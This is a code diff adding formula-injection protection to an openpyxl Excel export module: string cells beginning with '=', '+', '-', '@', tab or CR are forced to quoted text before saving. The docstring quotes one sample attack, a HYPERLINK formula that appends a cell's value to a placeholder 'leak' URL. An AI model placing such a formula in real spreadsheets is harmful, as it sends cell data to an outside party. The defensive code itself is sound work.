@@ -1,4 +1,9 @@
-"""Excel exports (openpyxl) of reports and bulletins: one row per unit or platform, plus how it was counted."""
+"""Excel exports (openpyxl) of reports and bulletins: one row per unit or platform, plus how it was counted.
+
+Cells carry text that platforms and users wrote (titles, unit names). A text cell that starts like a
+formula (``=``, ``+``, ``-``, ``@``, tab, CR) is written as a string cell with Excel's quote prefix,
+so ``=HYPERLINK("http://…?leak="&B2, …)`` in a title shows as text and never runs (formula injection).
+"""
 
 from __future__ import annotations
 
@@ -63,7 +68,21 @@ def _notes(book: Workbook, weights: dict[str, float], lines: Iterable[str] = ())
         cells[0].alignment = Alignment(wrap_text=True)
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def as_text(book: Workbook) -> None:
+    """Every string cell that Excel would read as a formula becomes a quoted string cell."""
+    for sheet in book.worksheets:
+        for cells in sheet.iter_rows():
+            for cell in cells:
+                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
+                    cell.data_type = "s"  # openpyxl had made it a formula ("f")
+                    cell.quotePrefix = True  # and Excel keeps it text even when the cell is edited
+
+
 def _bytes(book: Workbook) -> bytes:
+    as_text(book)  # last, over every sheet: no writer can forget it
     buffer = io.BytesIO()
     book.save(buffer)
     return buffer.getvalue()
